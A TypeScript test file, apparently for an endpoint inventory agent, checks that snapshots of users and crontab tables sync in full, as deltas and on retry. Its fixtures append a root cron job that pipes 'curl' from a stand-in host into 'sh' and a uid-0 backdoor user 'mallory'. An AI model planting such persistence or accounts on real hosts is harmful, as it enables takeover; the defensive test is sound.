import assert from 'node:assert/strict';
import { appendFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { crontabCollector } from '../../src/inventory/collectors/crontab.ts';
import { usersCollector } from '../../src/inventory/collectors/users.ts';
import { collectInventory } from '../../src/inventory/snapshot.ts';
import { InventorySync } from '../../src/uplink/inventory-sync.ts';
import { fixtureRoot } from '../inventory/fixture-root.ts';
import { enrolledAgentForSuite } from './protocol-server.ts';

describe('InventorySync', () => {
  const agent = enrolledAgentForSuite();

  it('uploads a full snapshot, then only the tables that changed, then a full refresh when due', async () => {
    const root = await fixtureRoot({ '/etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n', '/etc/crontab': '0 1 * * * root /usr/bin/backup\n' });
    let clock = 0;
    const sync = new InventorySync({
      collect: () => collectInventory({ root, collectors: [usersCollector, crontabCollector] }),
      send: async (upload) => {
        await agent.api.post('inventory', upload);
      },
      fullEveryMs: 6 * 3600_000,
      now: () => clock,
    });
    assert.equal(await sync.sync(), 'full');
    assert.deepEqual(Object.keys(agent.server.inventory[0].snapshot.tables), ['users', 'crontab']);
    assert.equal(agent.server.inventory[0].full, true);

    assert.equal(await sync.sync(), 'unchanged');
    assert.equal(agent.server.inventory.length, 1, 'nothing sent when nothing changed');

    appendFileSync(join(root, 'etc/crontab'), '*/5 * * * * root curl -s http://example.invalid | sh\n');
    assert.equal(await sync.sync(), 'changes');
    const delta = agent.server.inventory[1];
    assert.equal(delta.full, false);
    assert.deepEqual(Object.keys(delta.snapshot.tables), ['crontab']);
    assert.equal((delta.snapshot.tables.crontab as { rows: unknown[] }).rows.length, 2);

    // A change the server did not acknowledge is sent again at the next round.
    appendFileSync(join(root, 'etc/passwd'), 'mallory:x:0:0::/tmp:/bin/sh\n');
    agent.server.failNext.set('inventory', 1);
    await assert.rejects(sync.sync(), /HTTP 503/);
    assert.equal(await sync.sync(), 'changes');
    assert.deepEqual(Object.keys(agent.server.inventory[2].snapshot.tables), ['users']);

    clock += 6 * 3600_000;
    assert.equal(await sync.sync(), 'full');
    assert.equal(agent.server.inventory[3].full, true);
    assert.deepEqual(Object.keys(agent.server.inventory[3].snapshot.tables), ['users', 'crontab']);
  });
});
